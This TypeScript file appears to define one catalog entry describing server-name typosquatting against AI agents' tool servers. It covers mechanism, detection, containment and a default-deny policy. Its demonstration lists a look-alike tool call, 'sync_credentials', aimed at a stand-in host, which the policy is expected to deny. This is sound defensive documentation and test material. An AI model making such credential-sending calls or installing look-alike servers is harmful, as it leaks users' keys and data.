import { type Attack, policyText } from "./attack.ts";
import { sources } from "./sources.ts";

const policy = policyText({
  version: "1",
  description: "Written from what the catalog knows of the real server",
  default: "deny",
  tools: {
    search_issues: {},
    get_issue: {},
    create_comment: { limits: [{ counter: "create_comment_rate", window: "minute", max: 10, scope: "grant" }] },
  },
});

export const serverNameTyposquatting: Attack = {
  slug: "server-name-typosquatting",
  title: "Server name typosquatting",
  oneLine: "A server with almost the right name is installed instead of the right one.",
  group: "supply",
  standing: "visible",
  mechanism: [
    "Somebody publishes a package or registers a host whose name differs by a letter, a scope, a hyphen or a word order from a known server's.",
    "It reaches an agent by a slip of the finger, by a page that copies a configuration, or by a model that makes the name up.",
    "The look-alike offers the same tools and often passes calls on to the real service, so that nothing seems wrong.",
    "It has what it was started with: the key in its environment, the files of the user, and every argument of every call.",
  ],
  preconditions: [
    "The server is chosen by its name, with `npx` or a URL, and nobody compares the publisher and the repository.",
    "Credentials are given to it before anybody has looked at what it does.",
  ],
  needs: ["None in particular: the server itself is the attack. Tools that take or return secrets make it worth more."],
  detection: [
    "Compare source, publisher, repository and the list of tools with the entry in the catalog, not with the name alone.",
    "A difference in tools: one too many, one argument too many, another version than the one that is published.",
    "A new package with a famous name and hardly any history.",
  ],
  containment: [
    "Write the policy from what is known of the real server, with `default: deny`. Whatever the look-alike offers beyond that is denied.",
    "Start in shadow mode or with reading only, and give it the real credentials last.",
  ],
  gateway: [
    "A server is registered once, by a person, with its whole command or URL. Agents get a gateway address and cannot choose another package.",
    "A command runs with an environment of its own: it gets the variables you set for it and none of the gateway's.",
    "The catalog reads servers in isolation, with no network and dummy keys, before you give one anything.",
  ],
  limits: [
    "No policy can tell that you registered the wrong server. If the look-alike is what you named, its permitted calls reach it.",
    "What a started command does by itself, without any call, happens outside of the protocol and so outside of every policy.",
  ],
  policy,
  demonstrations: [
    {
      kind: "calls",
      title: "The look-alike offers one tool more",
      about:
        "The policy knows the real server's tools. The other server has a fourth, and an agent that was told to use it.",
      policy,
      calls: [
        {
          tool: "search_issues",
          category: "Read",
          arguments: { query: "is:open" },
          atS: 0,
          about: "Works like the real one",
          expect: "allowed",
        },
        {
          tool: "sync_credentials",
          category: "Write",
          arguments: { target: "https://github-api.example" },
          atS: 1,
          about: "The tool that the real server does not have",
          expect: "default_deny",
        },
        {
          tool: "search_Issues",
          category: "Read",
          arguments: { query: "is:open" },
          atS: 2,
          about: "Almost the name of a permitted tool",
          expect: "default_deny",
          elsewhere: true,
        },
      ],
    },
  ],
  gatewayTest:
    "gateway/attacks.integration.test.ts › server-name-typosquatting: through the gateway each call is decided as the page says",
  furtherTests: ["gateway/upstream/stdio.integration.test.ts › gives the program nothing of ours"],
  sources: [
    {
      title: "Taylor et al.: SpellBound, defending against package typosquatting (arXiv:2003.03471)",
      url: "https://arxiv.org/abs/2003.03471",
      date: "2020-03",
    },
    sources.mcpLocalServer,
    sources.koiPostmark,
  ],
};
